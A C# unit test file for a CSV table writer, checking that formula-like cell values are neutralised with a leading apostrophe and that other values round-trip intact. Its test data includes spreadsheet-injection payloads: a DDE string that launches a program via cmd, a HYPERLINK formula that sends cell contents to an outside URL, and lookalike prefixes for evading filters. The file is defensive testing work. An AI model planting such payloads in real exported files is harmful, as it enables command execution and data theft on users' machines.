using System.Buffers;
using System.Text;
using Feedback.Api.Features.Imports;
using Feedback.Api.Http.Lists;
using Feedback.Indicators;

namespace Feedback.Api.Tests.Lists;

/// <summary>Cells of a table: nothing in them runs in a spreadsheet, and every value comes back.</summary>
public sealed class WritingTables
{
    /// <summary>What a spreadsheet would run, or takes for the begin of something it runs.</summary>
    private static readonly string[] Formulas =
    [
        "=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://example.org/?\"&A1,\"click\")", "-2+3+cmd|' /C calc'!A0", "\t=1", "\tindented", "\r=1", "\n=1",
        "  =1", "\u00A0=1", "\u200B=1", "\uFEFF=1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "﹦1", "﹢1", "﹣1", "﹫SUM(A1)", "'=1", "''-1", "' =1", "=", "- bullet",
    ];

    private static readonly string[] Harmless =
    [
        "", "plain", " spaced ", "a,b", "a;b", "say \"hi\"", "\"", "\"\"", ",", "two\r\nlines", "two\nlines", "1-1", "a=b", "it's", "'quoted'", "Zürich", "日本語", "😀", "a\tb", "Ω≈ç√", "?", "100%", "0049", "1E5", "TRUE", "null",
    ];

    [TestCaseSource(nameof(Formulas))]
    public async Task What_a_spreadsheet_would_run_begins_with_an_apostrophe(string text)
    {
        var cell = (await Read(csv => csv.Text(text))).Single();
        Assert.That(cell, Is.EqualTo("'" + text));
        Assert.That(Stored(cell), Is.EqualTo(text));
    }

    [TestCaseSource(nameof(Harmless))]
    public async Task Another_text_comes_back_as_it_is(string text)
    {
        var cell = (await Read(csv => csv.Text(text))).Single();
        Assert.That(cell, Is.EqualTo(text));
        Assert.That(Stored(cell), Is.EqualTo(text));
    }

    [Test]
    public void No_two_texts_become_the_same_cell()
    {
        string[] all = [.. Formulas, .. Harmless];
        Assert.That(all.Select(text => Written(csv => csv.Text(text))).Distinct().Count(), Is.EqualTo(all.Distinct().Count()));
    }

    [TestCase(-5.25, "-5.25")]
    [TestCase(0.1, "0.1")]
    [TestCase(39.84, "39.84")]
    [TestCase(-1e-7, "-1E-07")]
    [TestCase(double.MaxValue, "1.7976931348623157E+308")]
    public void Numbers_are_left_alone_whatever_their_sign(double number, string text)
    {
        Assert.That(Written(csv => csv.Cell(number)), Is.EqualTo(text + "\r\n"));
        Assert.That(double.Parse(text, System.Globalization.CultureInfo.InvariantCulture), Is.EqualTo(number));
    }

    [Test]
    public void Every_kind_of_value_has_its_form()
    {
        object?[] values = [null, "", -7L, 12, true, false, new DateOnly(2026, 11, 21), new DateTimeOffset(2026, 11, 21, 10, 15, 0, TimeSpan.Zero), Audience.Employee, (string[])["a", "b"], Array.Empty<string>(), new Dictionary<string, int> { ["a"] = 1 }];
        Assert.That(Written(csv => { foreach (var value in values) csv.Cell(value); }),
            Is.EqualTo(",\"\",-7,12,true,false,2026-11-21,2026-11-21T10:15:00Z,employee,a;b,,\"{\"\"a\"\":1}\"\r\n"));
    }

    [Test]
    public void Lines_end_with_both_marks_and_hold_a_cell_for_every_column()
    {
        var written = Written(csv =>
        {
            csv.Header(["a", "b,c"]);
            csv.Text("1");
            csv.Cell(null);
        });
        Assert.That(written, Is.EqualTo("a,\"b,c\"\r\n1,\r\n"));
    }

    [FsCheck.NUnit.Property]
    public bool Any_text_comes_back(FsCheck.NonNull<string> any)
    {
        // What is no UTF-16 cannot be UTF-8 either, and nothing stores a NUL.
        var text = Encoding.UTF8.GetString(Encoding.UTF8.GetBytes(any.Get)).Replace("\0", "");
        return Stored(Read(csv => csv.Text(text)).Result.Single()) == text;
    }

    /// <summary>What was stored, from what a reader sees: one apostrophe less where what is behind it would be run.</summary>
    private static string Stored(string cell) => cell.StartsWith('\'') && SpreadsheetText.IsFormula(cell) ? cell[1..] : cell;

    private static string Written(Action<CsvTable> line)
    {
        var buffer = new ArrayBufferWriter<byte>();
        var csv = new CsvTable(buffer);
        line(csv);
        csv.End();
        return Encoding.UTF8.GetString(buffer.WrittenSpan);
    }

    private static async Task<string[]> Read(Action<CsvTable> line)
    {
        var text = Written(csv =>
        {
            csv.Text("before");
            line(csv);
            csv.Text("after");
        });
        await using var file = new ImportFile(new MemoryStream(Encoding.UTF8.GetBytes(text)), ',');
        var row = await file.Next();
        Assert.That(await file.Next(), Is.Null);
        Assert.That(row!.Cells, Has.Length.EqualTo(3));
        return [.. row.Cells[1..^1].Select(c => c!)];
    }
}
